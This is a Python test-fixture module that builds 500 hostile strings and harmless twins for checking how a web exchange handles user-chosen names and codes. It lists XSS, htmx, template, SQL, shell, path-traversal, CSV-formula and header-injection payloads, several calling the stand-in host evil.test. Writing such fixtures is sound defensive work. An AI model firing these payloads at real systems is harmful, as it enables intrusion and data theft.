# ruff: noqa: E501 (a text is one line)
"""500 texts as somebody who means harm would have the exchange tell them, each with MARK in it, and a harmless twin.

The exchange's texts are chosen by strangers: a trader's name, an invitation's code, an order's own id. What each of
these would like to be: an element, an attribute, a handler, an instruction to htmx, an address with a scheme, a
template, a style, a formula, a second line of a log, a path, another file format, or simply too much.
"""

from __future__ import annotations

from itertools import product

# So long that no token of a form has it by chance.
MARK = "zq7zq7"
MANY = 500
LONG = "x" * 1_000_000

SCRIPT = f"alert('{MARK}')"
_TAGS = (
    "<script>{s}</script>", "<img src=x onerror={s}>", "<svg onload={s}>", "<svg><animate onbegin={s} attributeName=x>",
    "<iframe srcdoc='<script>{s}</script>'>", "<math><mtext></form><form><mglyph><style></math><img src onerror={s}>",
    "<a href=javascript:{s}>x</a>", "<form action=javascript:{s}><button>x</button></form>", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>", "<link rel=stylesheet href=//evil.test/{s}>",
    "<style>*{{background:url(//evil.test/{s})}}</style>", "<object data=javascript:{s}>", "<embed src=javascript:{s}>",
    "<details open ontoggle={s}>", "<input autofocus onfocus={s}>", "<video><source onerror={s}></video>",
    "<body onload={s}>", "<template><script>{s}</script></template>", "<noscript><p title='</noscript><img src=x onerror={s}>'>",
)  # fmt: skip
_OPENERS = (
    "{t}", "\">{t}", "'>{t}", "</title>{t}", "</textarea>{t}", "</script>{t}", "</option></select>{t}", "-->{t}",
    "]]>{t}", "</td></tr></table>{t}",
)  # fmt: skip
_ATTRIBUTES = (
    "onmouseover={s}", "onfocus={s} autofocus", "style=position:fixed;inset:0", "hx-get=/connections/1/remove/",
    "hx-post=/security/delete/ hx-trigger=load", "data-hx-get=/x data-hx-trigger=load", "hx-on:click={s}",
    "hx-on::load={s}", "data-hx-on-load={s}", "hx-boost=true hx-target=body", "hx-vals='js:{{a:{s}}}'", "hx-ext=debug",
    "formaction=javascript:{s}", "srcset=//evil.test/x", "href=javascript:{s}", "xlink:href=javascript:{s}", "id=main",
    "name=csrfmiddlewaretoken", "class=hidden", "hidden", "contenteditable", "is=x-y", "slot=x", "nonce=x",
)  # fmt: skip
_BREAKERS = (
    '" {a} {m}="', "' {a} {m}='", " {a} {m} ", '"/{a}/{m}="', "`{a}`{m}", '"\n{a}\n{m}"', "&quot; {a} {m}&quot;", "\\\" {a} {m}",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{s}", "JaVaScRiPt:{s}", "java\tscript:{s}", " javascript:{s}", "\x01javascript:{s}", "data:text/html,{s}",
    "vbscript:{s}", "//evil.test/{m}", "https://evil.test/{m}", "/\\evil.test/{m}", "../../{m}", "..%2f..%2f{m}",
    "%2e%2e/{m}", "/etc/passwd#{m}", "C:\\{m}", "file:///etc/{m}", "\\\\evil.test\\{m}", "?next=//evil.test&{m}=1",
    "{m}/settings/", "{m}?account=1&x=2#y", "{m};a=b", "con.{m}", "{m}\u2044..\u2044",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ {m}.SECRET_KEY }}}}", "{{% debug %}}{m}", "{{{{ request.user.password }}}}{m}", "{{# {m} #}}", "${{7*7}}{m}",
    "#{{7*7}}{m}", "<%= 7*7 %>{m}", "{{{{constructor.constructor('{s}')()}}}}", "{{% include '/etc/passwd' %}}{m}",
    "{{0.__class__}}{m}", "%({m})s", "%s%s%n{m}", "%c{m}", "{{}}{m}", "{{0}}{{{m}}}", "$HOME`id`{m}", "$(id){m}", "'; DROP TABLE {m};--",
    "' OR 1=1 --{m}", "\\x3cscript\\x3e{m}", "\\u003cscript\\u003e{m}", "&lt;script&gt;{m}", "&#60;img src=x&#62;{m}",
)  # fmt: skip
_FORMULAS = tuple(
    start + rest
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u00a0=", "\u200e=", "\ufeff=", "\x00=", "\"=", "'=", ";=", ",=", "\u2028=")
    for rest in ("cmd|'/c calc'!A1{m}", "HYPERLINK(\"//evil.test?\"&A1;\"{m}\")", "1+1{m}")
)  # fmt: skip
_STRANGE = (
    "\x00{m}", "{m}\x00b", "\ud800{m}", "{m}\udfff", "\ud83d{m}", "\ud83d\ude00{m}", "\u202e{m}gnp.exe", "\u2066{m}\u2069",
    "\u200f{m}\u200e", "\u200b{m}\u200c\u200d\ufeff", "{m}" + "\u0301" * 60, "\u0000\u202e\ud800{m}", "\ufdfd{m}", "\ufffe{m}\uffff",
    "\x1b[2J\x1b[31m{m}", "\x1b]0;{m}\x07", "{m}\x08\x08\x08ok", "{m}\r\nSet-Cookie: a=b", "{m}\nERROR forged line", "{m}\u2028x\u2029y",
    "{m}\x85\x0b\x0c", "{m},\"x\";'y'\t|", "\"{m}\"\"", "{m}\\", "{m}\"}}]", "{m}</", "<!--{m}", "<![CDATA[{m}]]>", "<?xml {m}?>",
    "<!DOCTYPE {m}>", "&{m};", "&#x0;{m}", "\u1680{m}\u3000", "{m}" + " " * 300, "\u0130\u0131{m}", "ﬁ{m}ß", "١٢٣{m}", "-0{m}", "NaN{m}",
    "null", "undefined{m}", "true{m}", "[object Object]{m}", "__proto__", "constructor{m}", "None{m}", "0", "", " ",
    LONG + "{m}", "{m}" + "<b>" * 3000, "{m}" + "\u202e" * 2000, "{m} " * 4000, "{m}" + "é" * 5000, "W{m}" * 300,
)  # fmt: skip


def texts() -> list[str]:
    """All 500, every kind of them in turn, so that a part of the list holds some of each."""
    kinds = [
        [opener.format(t=tag.format(s=SCRIPT)) for tag, opener in product(_TAGS, _OPENERS)],
        [breaker.format(a=one.format(s=SCRIPT), m=MARK) for one, breaker in product(_ATTRIBUTES, _BREAKERS)],
        [one.format(s=SCRIPT, m=MARK) for one in _ADDRESSES + _TEMPLATES],
        [one.format(m=MARK) for one in _FORMULAS],
        [one.format(m=MARK) for one in _STRANGE],
    ]
    waiting = [iter(kind) for kind in kinds]
    found: list[str] = []
    while waiting:
        for one in list(waiting):
            text = next(one, None)
            if text is None:
                waiting.remove(one)
            elif text not in found:
                found.append(text)
    return found[:MANY]


def twins() -> list[str]:
    """As many harmless texts, each about as long as its hostile one: letters, digits and blanks, no two alike."""
    words = ("Northwind", "Steady Hand", "Gamma", "Blue Harbour", "Old Mill")
    made = []
    for number, text in enumerate(texts()):
        begun = f"{words[number % len(words)]} {number:03d} {MARK}"
        made.append(begun + " plain" * ((min(len(text), 6000) - len(begun)) // 6))
    return made
